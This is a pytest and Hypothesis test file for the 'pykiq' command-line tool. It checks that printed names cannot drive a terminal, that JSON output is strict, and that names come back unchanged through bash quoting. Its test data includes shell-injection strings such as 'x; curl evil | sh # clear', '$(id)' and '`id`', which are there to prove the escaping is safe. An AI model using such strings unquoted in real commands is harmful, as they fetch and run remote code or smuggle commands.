"""Whatever a name is, a terminal shows it, a program reads it, and a shell gives it back."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import pykiq.cli
from pykiq.cli.output import argument, escaped_json, printable, strict_json, word

TEXTS = st.binary().map(lambda raw: raw.decode("utf-8", "surrogateescape")) | st.text(
    st.sampled_from("\x00\x1b\x7f\x85\x9b\u202e\u2066\u200b\u2028\udce9\n\t ;'\"\\$`#-aé日")
)
HOSTILE = (
    "x; curl evil | sh # clear",
    "$(id)",
    "`id`",
    "a'b",
    'a"b',
    "-rf",
    "--help",
    "",
    " ",
    "*",
    "~",
    "é",
    "a\\nb",
    "!!",
)
UNPRINTABLE = ("\x1b[31m", "caf\udce9", "a\nb", "\u202ename", "it's\x07", "\\\x01", "\x9b31m", "$\x02(id)", "\x01f")


@given(TEXTS)
def test_nothing_that_is_printed_is_obeyed_by_a_terminal(text: str) -> None:
    shown = printable(text)
    assert shown.isprintable()
    assert not any(unicodedata.category(char) in ("Cc", "Cf", "Cs") for char in shown)


@given(
    st.recursive(TEXTS | st.floats() | st.integers() | st.none(), lambda of: st.lists(of) | st.dictionaries(TEXTS, of))
)
@example([float("inf"), float("-inf"), float("nan"), 10**5000])
def test_json_is_strict_and_harmless(value: object) -> None:
    written = strict_json(value)
    assert written.isascii()
    assert written.isprintable()
    assert not re.search(r"NaN|Infinity", re.sub(r'"(?:[^"\\\\]|\\\\.)*"', '""', written))
    json.dumps(json.loads(written), ensure_ascii=False).encode()  # no half of a surrogate pair


def test_what_json_has_no_word_for_is_text() -> None:
    values = [float("inf"), float("-inf"), float("nan"), 10**1000, 2**70, "caf\udce9"]
    assert json.loads(strict_json(values)) == ["inf", "-inf", "nan", "1" + "0" * 1000, 2**70, "caf\\xe9"]


@given(st.dictionaries(st.text(), st.text() | st.integers()))
def test_json_with_escapes_instead_of_what_a_terminal_obeys_says_the_same(value: dict[str, object]) -> None:
    raw = json.dumps(value, ensure_ascii=False, indent=1)
    assert escaped_json(raw).isprintable()
    assert json.loads(escaped_json(raw)) == value


@given(TEXTS)
@example("x; curl evil | sh # clear")
def test_a_name_that_can_be_shown_is_one_word_of_a_shell(text: str) -> None:
    assert word(text).isprintable()
    if text.isprintable():
        assert shlex.split(word(text)) == [text]
        assert shlex.split(f"pykiq queues {argument(text)} clear")[-2:] == [text, "clear"]


@pytest.mark.parametrize("name", [*HOSTILE, *UNPRINTABLE])
def test_a_shell_gives_a_name_back_byte_for_byte(name: str) -> None:
    ran = subprocess.run(["bash", "-c", f"printf %s {word(name)}" if name else "true"], capture_output=True, check=True)
    assert ran.stdout == name.encode("utf-8", "surrogateescape") or name.startswith("-")
    ran = subprocess.run(["bash", "-c", f"printf '<%s>' {word(name)} end"], capture_output=True, check=True)
    assert ran.stdout == b"<%s><end>" % name.encode("utf-8", "surrogateescape")


def test_every_command_prints_through_this_file() -> None:
    for path in Path(pykiq.cli.__file__).parent.rglob("*.py"):
        if path.name not in ("output.py", "stubs.py"):  # stubs are a program's text, from handlers
            assert "click.echo(" not in path.read_text("utf-8").replace("click.echo(ctx.get_help()", ""), path
